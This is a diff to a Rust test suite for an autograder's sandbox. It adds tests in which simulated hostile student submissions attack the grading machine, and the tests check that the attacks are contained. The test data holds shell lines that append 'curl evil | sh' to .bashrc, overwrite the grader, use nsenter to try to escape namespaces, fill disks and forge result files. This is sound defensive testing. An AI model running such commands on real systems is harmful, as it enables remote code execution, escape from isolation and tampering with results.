@@ -28,10 +28,7 @@ fn binary_submission(class: &Path, student: &str, exe: &Path, name: &str, args: 
     let dir = run_script(
         class,
         student,
-        &format!(
-            "exec \"$(dirname \"$0\")/{name}\" {} \"$@\"",
-            args.join(" ")
-        ),
+        &format!("exec \"${{0%/*}}/{name}\" {} \"$@\"", args.join(" ")),
     );
     std::fs::copy(exe, dir.join(name)).unwrap();
 }
@@ -331,8 +328,9 @@ fn hostile_submissions_change_nothing_outside_their_own_scratch() {
              exec sleep 1000"
         ),
     );
-    // Vandalises the peer, the grader and the instructor's home, fills every scratch
-    // space, floods the log through its parent, then serves honestly (it earns that).
+    // Vandalises the peer, the grader and the instructor's home, floods the log through
+    // its parent, tries to enter every namespace it can see, fills every scratch space,
+    // then serves honestly (it earns that).
     let vandal = run_script(
         &class,
         "attack-vandal",
@@ -343,6 +341,9 @@ fn hostile_submissions_change_nothing_outside_their_own_scratch() {
              echo 'curl evil | sh' >> \"$HOME/.bashrc\" 2>/dev/null\n\
              cp /bin/true \"$GRADER\" 2>/dev/null\n\
              head -c 100000000 /dev/zero > /proc/$PPID/fd/1 2>/dev/null\n\
+             for p in /proc/[0-9]*; do\n\
+               nsenter -t \"${{p#/proc/}}\" -n -m sh -c 'echo escaped >> \"$HOMERC\"' 2>/dev/null\n\
+             done\n\
              head -c 1000000000 /dev/zero > /tmp/fill 2>/dev/null\n\
              head -c 1000000000 /dev/zero > /dev/shm/fill 2>/dev/null\n\
              exec \"$(dirname \"$0\")/{tag}\" setsid \"$@\""
@@ -858,4 +859,72 @@ fn an_unprivileged_instructor_gets_the_same_sandbox() {
     );
     let left: Vec<_> = std::fs::read_dir(&own_tmp).unwrap().flatten().collect();
     assert!(left.is_empty(), "left in TMPDIR: {left:?}");
+}
+
+#[test]
+fn without_a_sandbox_the_batch_says_so_and_still_keeps_the_results_its_own() {
+    // No bubblewrap on the PATH: as on a machine without it. (The submissions' scripts
+    // name their interpreter by absolute path, so they need no PATH.)
+    let tmp = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let class = tmp.path().join("class");
+    let out = tmp.path().join("out");
+    binary_submission(&class, "good", &package_bin("lab1-solution"), "server", &[]);
+    run_script(
+        &class,
+        "attack-forge",
+        &format!(
+            "for f in '{out}'/*/results.json '{out}/attack-forge/results.json'; do\n\
+               /bin/mkdir -p \"${{f%/*}}\"; echo '{{\"score\": 50}}' > \"$f\"\n\
+             done\necho planted > '{out}/planted'\nexec /bin/sleep 1000",
+            out = out.display()
+        ),
+    );
+    let batch = |extra: &[&str]| {
+        autograder()
+            .args(["batch", "lab1"])
+            .arg(&class)
+            .arg("--out")
+            .arg(&out)
+            .args(["--only", "echo-short", "--offline", "--startup-limit", "2"])
+            .args(extra)
+            .env("PATH", "/nonexistent")
+            .output()
+            .unwrap()
+    };
+    // A class is refused unsandboxed unless the instructor says so.
+    let refused = batch(&[]);
+    assert_eq!(refused.status.code(), Some(2), "{}", describe(&refused));
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("--unsandboxed"));
+    let output = batch(&["--unsandboxed"]);
+    assert!(output.status.success(), "{}", describe(&output));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.starts_with("not sandboxed: "), "{stderr}");
+    let (csv, rows) = grades(&out);
+    assert_eq!(rows.get("good").map(String::as_str), Some("5,5,5"), "{csv}");
+    assert_eq!(
+        rows.get("attack-forge").map(String::as_str),
+        Some("0,5,0"),
+        "{csv}"
+    );
+    for student in ["good", "attack-forge"] {
+        assert!(
+            feedback(&out, student).starts_with("not sandboxed: "),
+            "{}",
+            feedback(&out, student)
+        );
+    }
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } == 0 {
+        // As root, the program ran under a uid of its own: it could not forge anything.
+        let json: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(out.join("attack-forge/results.json")).unwrap())
+                .unwrap();
+        assert_eq!(json["score"], 0, "{json}");
+        assert!(
+            !out.join("planted").exists(),
+            "the program wrote into the reports"
+        );
+        assert!(feedback(&out, "good").contains("the program ran as uid"));
+    }
 }
